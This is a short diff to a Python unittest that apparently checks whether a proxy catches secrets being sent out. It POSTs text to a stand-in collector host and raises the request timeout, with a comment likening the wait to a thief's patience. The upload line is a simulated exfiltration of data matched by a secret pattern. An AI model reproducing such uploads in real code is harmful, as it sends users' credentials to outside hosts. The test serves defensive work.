@@ -83,7 +83,9 @@ class TestDump(unittest.TestCase):
             "http://collector.dump.test/upload", data=text.encode(), method="POST"
         )
         try:
-            urllib.request.urlopen(request, timeout=10).read()
+            # Patient, as a thief would be: the proxy searches the whole body before it
+            # answers, which takes a while on a loaded machine.
+            urllib.request.urlopen(request, timeout=120).read()
         except Exception:
             pass
         found = sorted(set(SECRET.findall(text)))[:20]
